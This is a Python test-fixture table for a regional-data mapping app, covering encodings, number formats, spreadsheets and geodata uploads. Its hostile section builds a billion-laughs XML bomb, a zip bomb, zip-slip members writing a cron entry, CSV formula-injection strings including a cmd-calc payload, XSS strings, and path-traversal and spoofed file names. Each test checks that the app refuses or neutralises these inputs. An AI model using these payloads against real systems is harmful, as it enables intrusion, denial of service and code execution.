"""Hostile and messy uploads, generated in code, with what the user must see for each.

One table (``CASES``): name, a bytes factory, the file name the browser sends, and a check on the
``Outcome`` of the real upload path (``run``: ingest → region match → aggregate → CSV exports).
"""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field

import pandas as pd

from atlas import read
from atlas.draw import export
from atlas.draw.compose import compose
from atlas.draw.views import ViewSpec
from atlas.errors import UserError
from atlas.i18n import translator
from atlas.places import regions
from atlas.read import safety
from atlas.values import userdata

_ = translator("en")
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

# Nine regions with values; every factory below writes some form of this table.
VALUES = {
    "Баткенская область": ("KG-B", 11.0),
    "Чуйская область": ("KG-C", 22.5),
    "Джалал-Абадская область": ("KG-J", 33.0),
    "Нарынская область": ("KG-N", 44.0),
    "Ошская область": ("KG-O", 55.0),
    "Таласская область": ("KG-T", 66.0),
    "Иссык-Кульская область": ("KG-Y", 77.0),
    "город Бишкек": ("KG-GB", 1234.5),
    "город Ош": ("KG-GO", 99.0),
}
EXPECTED = {code: v for code, v in VALUES.values()}


@dataclass
class Outcome:
    """What the user sees after the upload path ran: an error message, or the read table and its match."""

    error: str | None = None
    messages: list[str] = field(default_factory=list)
    upload: read.Upload | None = None
    match: regions.MatchResult | None = None
    values: dict[str, float] = field(default_factory=dict)
    exports: dict[str, bytes] = field(default_factory=dict)

    @property
    def shown(self) -> str:
        """Every text the page would show, joined (for payload and traceback checks)."""
        parts = [self.error or "", *self.messages]
        if self.match is not None:
            parts += [str(v) for v in self.match.report["raw"].tolist()]
        return "\n".join(parts)


@dataclass
class Case:
    name: str
    make: Callable[[], bytes | str]  # str means text pasted into the paste box
    filename: str
    check: Callable[[Outcome], None]
    value_col: str | None = None  # the column to sum per region (default: the first value column)


def run(case: Case) -> Outcome:
    """The real upload path; only ``UserError`` may stop it (anything else fails the test).

    ingest → userdata.build (region match, points, duplicates) → compose (what the map shows)
    → the CSV exports (joined table, match report).
    """
    out = Outcome()
    data = case.make()
    try:
        up = read.read_pasted(data) if isinstance(data, str) else read.read_upload(data, case.filename)
    except UserError as err:
        out.error = err.msg.render(_)
        return out
    out.upload = up
    out.messages = [m.render(_) for m in up.report.messages]
    choices = userdata.default_choices(up)
    if up.kind != "table" or not (choices.region_col or (choices.lat_col and choices.lon_col)):
        return out
    if case.value_col:
        choices.value_cols = [case.value_col]
    try:
        built = userdata.build(up, choices)
    except UserError as err:
        out.error = err.msg.render(_)
        return out
    out.match = built.match
    if out.match is not None:
        out.messages.append(out.match.summary().render(_))
    out.messages += [w.render(_) for w in built.warnings]
    value = userdata.first_value_column(built.table)
    spec = ViewSpec(dataset=built.table.key, column=value, aggregation="sum" if value else "count",
                    normalisation="none", lang="en")
    composed = compose(spec, built.table, _)
    out.values = {code: float(v) for code, v in composed.view.values.dropna().items()}
    out.exports = {
        "joined": export.joined_csv(built.table.frame),
    }
    if out.match is not None:
        out.exports["match_report"] = export.match_report_csv(out.match.report)
    return out


# --------------------------------------------------------------------------- factories


def table_text(sep: str = ";", decimal: str = ".", names: dict | None = None, header=("Область", "Сумма")) -> str:
    rows = [sep.join(header)]
    for name, (_code, value) in (names or VALUES).items():
        text = f"{value:g}".replace(".", decimal) if decimal != "." else f"{value:g}"
        rows.append(sep.join([name, text]))
    return "\n".join(rows) + "\n"


def zipped(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def xlsx(build: Callable) -> bytes:
    import openpyxl

    wb = openpyxl.Workbook()
    build(wb)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _merged_header(wb) -> None:
    ws = wb.active
    ws.append(["Отчёт НКО по областям, 2021"])
    ws.merge_cells("A1:C1")
    ws.append(["Область", "Проекты", "Проекты"])
    ws.append([None, "2020", "2021"])
    ws.merge_cells("A2:A3")
    for name, (_code, value) in VALUES.items():
        ws.append([name, value, value * 2])


def _third_sheet(wb) -> None:
    wb.active.title = "Обложка"
    wb.active.append(["Содержание"])
    wb.create_sheet("Notes").append(["see sheet Data"])
    ws = wb.create_sheet("Data")
    ws.append(["Region", "Value"])
    for name, (_code, value) in VALUES.items():
        ws.append([name, value])
    wb.create_sheet("Empty")
    wb.create_sheet("Chart")


def billion_laughs() -> bytes:
    good = xlsx(lambda wb: wb.active.append(["Region", "Value"]))
    lol = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i else b"&lol;") * 10) for i in range(1, 10))
        + b']><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&lol9;</t></si></sst>'
    )
    src = zipfile.ZipFile(io.BytesIO(good))
    members = {i.filename: src.read(i) for i in src.infolist()}
    members["xl/sharedStrings.xml"] = lol
    return zipped(members)


def zip_bomb() -> bytes:
    # 30 MB of zeros in one member: a few KB compressed, far over the 200:1 ratio cap
    return zipped({"layer.shp": b"\0" * 30_000_000, "layer.shx": b"", "layer.dbf": b""})


def zip_slip() -> bytes:
    return zipped({"../../static/pwned.json": b"{}", "/etc/cron.d/pwned": b"* * * * * root id", "a.txt": b"x"})


def shapefile_zip(drop: tuple[str, ...] = (), crs: int | None = 4326, geoms=None, prefix: str = "") -> bytes:
    import tempfile
    from pathlib import Path

    import geopandas as gpd
    import shapely

    geoms = geoms or [shapely.Point(74.6, 42.87), shapely.Point(72.8, 40.53)]
    gdf = gpd.GeoDataFrame({"name": ["Бишкек", "Ош"][: len(geoms)] * (len(geoms) // 2 or 1)}, geometry=geoms)
    if crs:
        gdf = gdf.set_crs(4326).to_crs(crs)
    with tempfile.TemporaryDirectory() as tmp:
        gdf.to_file(Path(tmp) / "pts.shp", engine="pyogrio")
        members = {
            prefix + p.name: p.read_bytes()
            for p in Path(tmp).iterdir()
            if p.suffix not in drop
        }
    return zipped(members)


def geojson(features: list[dict], crs: str | None = None) -> bytes:
    doc: dict = {"type": "FeatureCollection", "features": features}
    if crs:
        doc["crs"] = {"type": "name", "properties": {"name": crs}}
    return json.dumps(doc).encode()


def feature(geometry: dict, **props) -> dict:
    return {"type": "Feature", "properties": props, "geometry": geometry}


# --------------------------------------------------------------------------- checks


def values_are(expected: dict[str, float] | None = None) -> Callable[[Outcome], None]:
    """The nine regions matched with the right sums, and the summary says 9 of 9."""
    expected = EXPECTED if expected is None else expected

    def check(out: Outcome) -> None:
        assert out.error is None, out.error
        assert out.values == pytest_approx(expected), out.values
        total = len(out.upload.table)
        assert f"Rows matched to a region: {total} of {total}" in out.messages

    return check


def pytest_approx(expected: dict[str, float]):
    import pytest

    return pytest.approx(expected)


def refused(*fragments: str) -> Callable[[Outcome], None]:
    """Refused with a specific message (every fragment appears in it)."""

    def check(out: Outcome) -> None:
        assert out.error is not None, f"expected a refusal, got {out.messages}"
        for frag in fragments:
            assert frag in out.error, out.error

    return check


def all_of(*checks: Callable[[Outcome], None]) -> Callable[[Outcome], None]:
    def check(out: Outcome) -> None:
        for c in checks:
            c(out)

    return check


def says(*fragments: str) -> Callable[[Outcome], None]:
    def check(out: Outcome) -> None:
        text = "\n".join(out.messages)
        for frag in fragments:
            assert frag in text, text

    return check


def unmatched(*raws: str) -> Callable[[Outcome], None]:
    """These values are listed as unmatched for the user to fix (never dropped silently)."""

    def check(out: Outcome) -> None:
        assert out.match is not None, out.error
        for raw in raws:
            assert raw in out.match.unmatched, out.match.unmatched

    return check


def ambiguous(*raws: str) -> Callable[[Outcome], None]:
    def check(out: Outcome) -> None:
        assert out.match is not None, out.error
        assert set(raws) <= set(out.match.ambiguous), out.match.ambiguous

    return check


def match_row(raw: str, code: str | None, method: str) -> Callable[[Outcome], None]:
    def check(out: Outcome) -> None:
        rep = out.match.report.set_index("raw")
        assert (rep.loc[raw, "code"], rep.loc[raw, "method"]) == (code, method), rep.loc[raw].to_dict()

    return check


def column(name: str, values: list) -> Callable[[Outcome], None]:
    def check(out: Outcome) -> None:
        assert out.error is None, out.error
        assert out.upload.table[name].tolist() == values, out.upload.table[name].tolist()

    return check


def columns(names: list[str]) -> Callable[[Outcome], None]:
    def check(out: Outcome) -> None:
        assert out.error is None, out.error
        assert list(out.upload.table.columns) == names

    return check


def guess(name: str, value: object) -> Callable[[Outcome], None]:
    def check(out: Outcome) -> None:
        assert out.upload.report.guesses[name].value == value, out.upload.report.guesses[name]

    return check


def vector(rows: int, types: str) -> Callable[[Outcome], None]:
    def check(out: Outcome) -> None:
        assert out.error is None, out.error
        assert out.upload.kind == "vector"
        assert f"Read {rows} features ({types})." in out.messages, out.messages

    return check


def export_cell(kind: str, cell: str) -> Callable[[Outcome], None]:
    """The CSV export holds this exact (neutralised) cell."""

    def check(out: Outcome) -> None:
        frame = pd.read_csv(io.BytesIO(out.exports[kind]), encoding="utf-8-sig", dtype=str, keep_default_na=False)
        cells = set(frame.to_numpy().ravel()) | set(frame.columns)
        assert cell in cells, sorted(cells)[:40]

    return check


# --------------------------------------------------------------------------- the table

XSS = '<img src=x onerror="window.__xss=1">'
JS = "javascript:window.__xss=1"
BISHKEK_UTF8 = "Бишкек".encode().decode("cp1251")  # "Р‘РёС€РєРµРє"
BISHKEK_1252 = "Бишкек".encode("cp1251").decode("cp1252")  # "Áèøêåê"
THREE = {"Нарын": ("KG-N", 1.0), "Талас": ("KG-T", 2.0), "Баткен": ("KG-B", 3.0)}
# "И" is 0xD0 0x98 in UTF-8 and 0x98 has no CP1251 letter: the classic mojibake needs names without it
NO_I = {**{k: v for k, v in VALUES.items() if not k.startswith("И")}, "Ысык-Көл облусу": ("KG-Y", 77.0)}


def _formula_table() -> str:
    names = ["=HYPERLINK(\"http://x/?\"&A1,\"x\")", "+1+2", "-2+3", "@SUM(1)", "\t=1", "-1"]
    quoted = ['"' + n.replace('"', '""') + '"' for n in names]
    rows = ["Область,НКО,Сумма"] + [f"{r},{n},{i}" for i, (r, n) in enumerate(zip(VALUES, quoted, strict=False))]
    rows.append('город Ош,"a"",=1+2",7')  # a quote that would move = to the start of a new cell
    return "\n".join(rows) + "\n"


def _with_lines(n: int, text: str) -> str:
    return text + "".join(f"Нарын;{i}\n" for i in range(n))


CASES: list[Case] = [
    # ---- encodings
    Case("utf8_plain", lambda: table_text().encode(), "d.csv", values_are()),
    Case("utf8_bom", lambda: table_text().encode("utf-8-sig"), "d.csv",
         all_of(values_are(), columns(["Область", "Сумма"]), guess("encoding", "utf-8-sig"))),
    Case("utf16le_bom_tab", lambda: table_text("\t").encode("utf-16"), "unicode.txt",
         all_of(values_are(), guess("separator", "\t"))),
    Case("utf16be_bom", lambda: b"\xfe\xff" + table_text("\t").encode("utf-16-be"), "d.txt", values_are()),
    Case("cp1251", lambda: table_text().encode("cp1251"), "d.csv", all_of(values_are(), guess("encoding", "cp1251"))),
    Case("cp866", lambda: table_text(",").encode("cp866"), "dos.csv", all_of(values_are(), guess("encoding", "cp866"))),
    Case("koi8r_read_as_codepage", lambda: table_text().encode("koi8-r"), "koi.csv",
         # KOI8-R is not auto-detected: garbled names must be listed unmatched, never matched by accident
         lambda out: _koi8(out)),
    Case("mojibake_whole_file", lambda: table_text(names=NO_I).encode().decode("cp1251").encode("utf-8"), "d.csv",
         all_of(values_are(), says("it was repaired"))),
    Case("mojibake_one_cell", lambda: table_text(names={**VALUES, BISHKEK_UTF8: ("KG-GB", 1.0)}).encode(), "d.csv",
         all_of(match_row(BISHKEK_UTF8, "KG-GB", "alias"),
                lambda out: _eq(out.values["KG-GB"], 1235.5))),
    Case("cp1252_mojibake_cell_repaired", lambda: table_text(names={BISHKEK_1252: ("KG-GB", 5.0), **THREE}).encode(),
         "d.csv", all_of(match_row(BISHKEK_1252, "KG-GB", "alias"), says("Rows matched to a region: 4 of 4"))),
    Case("cp1252_mojibake_whole_file", lambda: table_text().encode("cp1251").decode("cp1252", errors="replace")
         .encode(), "d.csv", values_are()),
    Case("lost_kyrgyz_letters", lambda: table_text(names={"Ысык-К?л": ("KG-Y", 3.0), "Нарын": ("KG-N", 4.0)})
         .encode("cp1251", errors="replace"), "d.csv",
         all_of(match_row("Ысык-К?л", "KG-Y", "alias"), lambda out: _eq(out.values, {"KG-N": 4.0, "KG-Y": 3.0}))),
    Case("kyrgyz_letters_cp1251_replace", lambda: "Аймак;Сан\nЫсык-Көл облусу;5\nЧүй облусу;6\n"
         .encode("cp1251", errors="replace"), "ky.csv",
         lambda out: _eq(out.values, {"KG-C": 6.0, "KG-Y": 5.0})),
    # ---- numbers
    Case("decimal_comma_semicolon", lambda: table_text(";", ",").encode(), "d.csv",
         all_of(values_are(), guess("decimal", ","))),
    Case("thousands_nbsp_and_narrow", lambda: "Область;Сумма\nНарын;1\u00a0234,5\nТалас;2\u202f000,25\nБаткен;3 000\n"
         .encode(), "d.csv", lambda out: _eq(out.values, {"KG-B": 3000.0, "KG-N": 1234.5, "KG-T": 2000.25})),
    Case("thousands_dots_decimal_comma", lambda: "Область;Сумма\nНарын;2.334,01\nТалас;1.000.000,5\n".encode(), "d.csv",
         lambda out: _eq(out.values, {"KG-N": 2334.01, "KG-T": 1000000.5})),
    Case("bad_numbers_counted",
         lambda: "Область;Сумма\nНарын;н/д\nТалас;12 %\nБаткен;-\nЧуй;1,5\nОш шаары;7\n".encode(), "d.csv",
         all_of(says("Column Сумма: 2 cells could not be read as numbers"),
                lambda out: _eq(out.values, {"KG-C": 1.5, "KG-T": 12.0, "KG-GO": 7.0}))),
    # ---- structure
    Case("duplicate_columns", lambda: "Область,Сумма,Сумма\nНарын,1,2\nТалас,3,4\n".encode(), "d.csv",
         lambda out: _dup_columns(out)),
    Case("duplicate_regions_summed", lambda: "Область,Сумма\nЧуй,1\nChui,2\nЧүй облусу,4\nНарын,8\n".encode(), "d.csv",
         all_of(lambda out: _eq(out.values, {"KG-C": 7.0, "KG-N": 8.0}),
                lambda out: _same(regions.find_duplicates(out.match.codes).to_dict("records"),
                                  [{"code": "KG-C", "rows": 3}]))),
    Case("osh_is_ambiguous", lambda: b"Region,Value\nOsh,1\nNaryn,2\nTalas,3\n", "d.csv",
         all_of(ambiguous("Osh"), lambda out: _eq(out.values, {"KG-N": 2.0, "KG-T": 3.0}))),
    Case("misspelled_names_fuzzy", lambda: b"Region,Value\nJalal-Abbad oblast,1\nNarynskaya,2\nIssyk Kul,3\n",
         "d.csv", lambda out: _eq(out.values, {"KG-J": 1.0, "KG-N": 2.0, "KG-Y": 3.0})),
    Case("unknown_region_listed", lambda: b"Region,Value\nAtlantis,1\nNaryn,2\nTalas,3\n", "d.csv",
         all_of(unmatched("Atlantis"), says("Rows matched to a region: 2 of 3"))),
    Case("pcode_text_keeps_zeros", lambda: b"pcode,value\nKG02000000000,5\nKG04000000000,6\nKG11000000000,7\n",
         "d.csv", lambda out: _eq(out.values, {"KG-N": 6.0, "KG-Y": 5.0, "KG-GB": 7.0})),
    Case("soate_numbers", lambda: b"soate,value\n41702000000000,5\n41704000000000,6\n41711000000000,7\n",
         "d.csv", lambda out: _eq(out.values, {"KG-N": 6.0, "KG-Y": 5.0, "KG-GB": 7.0})),
    Case("iso_codes", lambda: b"code;v\nKG-GO;1\nKG-O;2\nKGGB;3\n", "d.csv",
         lambda out: _eq(out.values, {"KG-O": 2.0, "KG-GB": 3.0, "KG-GO": 1.0})),
    Case("title_rows_totals_notes", lambda: ("Отчёт за 2021\n\n" + table_text() + "Всего;1700\nИсточник: НСК;\n")
         .encode("cp1251"), "d.csv", all_of(values_are(), says("rows were left out"))),
    Case("pasted_from_excel", lambda: table_text("\t"), "", values_are()),
    Case("pasted_with_decimal_comma", lambda: table_text("\t", ","), "", values_are()),
    Case("xlsx_merged_header", lambda: xlsx(_merged_header), "r.xlsx",
         all_of(columns(["Область", "2020", "2021"]), values_are())),
    Case("xlsx_sheet_three_of_five", lambda: xlsx(_third_sheet), "r.xlsx",
         all_of(guess("sheet", "Data"), values_are())),
    Case("unclosed_quote", lambda: b'Region,Value\n"Naryn,1\nTalas,2\n', "d.csv",
         refused('Line 2 opens a quoted field (") that is never closed.')),
    Case("empty_file", lambda: b"  \n \n", "d.csv", refused("The file is empty.")),
    Case("header_only", lambda: b"Region;Value\n", "d.csv", refused("no data rows")),
    # ---- hostile files
    Case("billion_laughs_xlsx", billion_laughs, "lol.xlsx", refused("XML entity declarations", "refused as unsafe")),
    Case("exe_named_csv", lambda: b"MZ\x90\x00" + b"\x00" * 200, "data.csv",
         refused("This file is a Windows program, not a table or a map file")),
    Case("elf_named_csv", lambda: b"\x7fELF\x02\x01\x01" + b"\x00" * 100, "data.csv", refused("a Linux program")),
    Case("xls_binary_named_xlsx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500, "old.xlsx",
         refused("The old Excel workbook (.xls) could not be opened")),
    Case("xlsx_named_csv", lambda: xlsx(_third_sheet), "data.csv",
         all_of(values_are(), says("The file is named data.csv but its content is xlsx"))),
    Case("csv_named_xlsx", lambda: table_text().encode(), "data.xlsx", says("its content is csv")),
    Case("random_binary", lambda: bytes(range(256)) * 20, "x.csv", refused("binary data")),
    Case("zip_bomb", zip_bomb, "bomb.zip", refused("unpacks to far more data than it holds")),
    Case("zip_slip_members", zip_slip, "slip.zip", refused("holds no workbook (.xlsx, .ods) and no shapefile (.shp)")),
    Case("zip_damaged", lambda: b"PK\x03\x04" + b"\x13" * 300, "x.zip", refused("The zip file is damaged")),
    Case("shapefile_without_dbf", lambda: shapefile_zip(drop=(".dbf",)), "s.zip",
         refused("The shapefile is missing its .dbf file.")),
    Case("shapefile_without_shx", lambda: shapefile_zip(drop=(".shx",)), "s.zip", refused("missing its .shx")),
    Case("shapefile_in_folder_slip_name", lambda: shapefile_zip(prefix="../../"), "s.zip", vector(2, "Point")),
    Case("shapefile_projected_reprojected", lambda: shapefile_zip(crs=32643), "s.zip",
         all_of(vector(2, "Point"), says("Coordinates were converted from EPSG:32643 to WGS 84."),
                lambda out: _eq(round(float(out.upload.table.geometry.x.iloc[0]), 4), 74.6))),
    Case("geojson_projected_without_crs",
         lambda: geojson([feature({"type": "Point", "coordinates": [450000, 4700000]})]),
         "p.geojson", refused("not in degrees")),
    Case("geojson_old_crs_3857", lambda: geojson([feature({"type": "Point", "coordinates": [8304400.0, 5293000.0]})],
                                                  "urn:ogc:def:crs:EPSG::3857"), "p.geojson",
         all_of(vector(1, "Point"), lambda out: _eq(round(float(out.upload.table.geometry.x.iloc[0]), 1), 74.6))),
    Case("geojson_mixed_types", lambda: geojson([
        feature({"type": "Point", "coordinates": [74.6, 42.9]}),
        feature({"type": "Polygon", "coordinates": [[[74, 42], [75, 42], [75, 43], [74, 42]]]}),
        feature({"type": "GeometryCollection", "geometries": [{"type": "Point", "coordinates": [72.8, 40.5]}]}),
    ]), "m.geojson", vector(3, "GeometryCollection, Point, Polygon")),
    Case("geojson_bowtie_polygon", lambda: geojson([feature(
        {"type": "Polygon", "coordinates": [[[74, 42], [75, 43], [75, 42], [74, 43], [74, 42]]]}, name="bowtie")]),
        "b.geojson", vector(1, "Polygon")),
    Case("geojson_not_json", lambda: b'{"type": "FeatureCollection", "features": [', "x.geojson",
         refused("The file looks like JSON but is not valid JSON")),
    Case("swapped_coordinates_csv", lambda: b"name,lat,lon\nA,74.6,42.87\nB,72.8,40.53\n", "pts.csv",
         lambda out: _swapped(out)),
    # ---- formula injection and payloads
    Case("formula_injection_export", lambda: _formula_table().encode(), "f.csv",
         all_of(export_cell("joined", "'=HYPERLINK(\"http://x/?\"&A1,\"x\")"), export_cell("joined", "'+1+2"),
                export_cell("joined", "'@SUM(1)"), export_cell("joined", "'\t=1"), export_cell("joined", "'-2+3"),
                export_cell("joined", 'a",=1+2'))),
    Case("formula_after_carriage_return", lambda: 'Область,НКО,Сумма\nНарын,"\r=1+2",1\nТалас,"x\r@SUM(1)",2\n'
         .encode(), "f.csv", lambda out: _eq(out.values, {"KG-N": 1.0, "KG-T": 2.0})),
    Case("formula_region_names_in_match_report", lambda: b"Region,Value\n=cmd|' /C calc'!A0,1\n@SUM(1),2\nNaryn,3\n"
         b"Talas,4\nBatken,5\nChui,6\nNaryn,7\n", "f.csv", all_of(unmatched("=cmd|' /C calc'!A0", "@SUM(1)"),
                                    export_cell("match_report", "'=cmd|' /C calc'!A0"))),
    Case("formula_column_name", lambda: b"Region,=1+1\nNaryn,3\nTalas,4\n", "f.csv",
         export_cell("joined", "'=1+1")),
    Case("html_payload_region_name", lambda: f"Region,Value\n{XSS},1\n{JS},2\nNaryn,3\nTalas,4\nChui,5\n"
         .encode(), "x.csv", all_of(unmatched(XSS, JS), says("Rows matched to a region: 3 of 5"),
                                    lambda out: _eq(out.values, {"KG-C": 5.0, "KG-N": 3.0, "KG-T": 4.0}))),
    Case("html_payload_column_name", lambda: f"Region,{XSS}\nNaryn,3\nTalas,4\n".encode(), "x.csv",
         all_of(columns(["Region", XSS]), lambda out: _eq(out.values, {"KG-N": 3.0, "KG-T": 4.0}))),
    Case("html_payload_file_name", lambda: table_text().encode(), f"{XSS}.csv", values_are()),
    # ---- hostile names and sizes
    Case("path_traversal_name", lambda: table_text().encode(), "../../etc/passwd.csv", values_are()),
    Case("nul_in_name", lambda: table_text().encode(), "a\x00b.csv", values_are()),
    Case("very_long_name", lambda: table_text().encode(), "a" * 5000 + ".csv", values_are()),
    Case("rtl_override_name", lambda: table_text().encode(), "report\u202ecsv.exe", values_are()),
    Case("ntfs_stream_name", lambda: table_text().encode(), "report.csv:evil.exe", values_are()),
    Case("over_size_cap", lambda: _big(), "big.csv", refused("the limit is")),
    Case("too_many_rows", lambda: _with_lines(3000, "Область;Сумма\n").encode(), "rows.csv",
         refused("The file has 3000 rows; the limit is 2000.")),
]


# small helpers used by checks

def _eq(got, want) -> None:
    import pytest

    assert got == pytest.approx(want), got


def _same(got, want) -> None:
    assert got == want, got


def _dup_columns(out: Outcome) -> None:
    # both columns kept, the second renamed so the user can tell them apart
    cols = list(out.upload.table.columns)
    assert cols[:2] == ["Область", "Сумма"] and cols[2].startswith("Сумма.") and len(cols) == 3, cols
    assert out.upload.table[cols[2]].tolist() == [2, 4]


def _koi8(out: Outcome) -> None:
    # KOI8-R bytes read as CP1251/CP866 are garbage: nothing may be matched by accident, all are listed
    assert out.error is None, out.error
    assert out.match is None or out.match.matched_rows == 0 or out.values == EXPECTED


def _swapped(out: Outcome) -> None:
    from atlas.places import points

    # nothing is placed silently: the user is told, and the map stays empty until they swap
    assert "2 points have latitude and longitude swapped; they can be swapped back." in out.messages
    assert out.values == {}, out.values
    up = out.upload
    swapped = userdata.build(up, userdata.Choices(lat_col="lat", lon_col="lon", swap_points=True))
    assert swapped.table.frame[swapped.table.region_col].tolist() == ["KG-GB", "KG-GO"]
    assert points.locate_points(up.table["lat"], up.table["lon"]).counts()["swapped"] == 2


def _big() -> bytes:
    # one byte over the cap; the test lowers safety.MAX_BYTES so this stays small
    return table_text().encode() * (safety.MAX_BYTES // len(table_text().encode()) + 1)
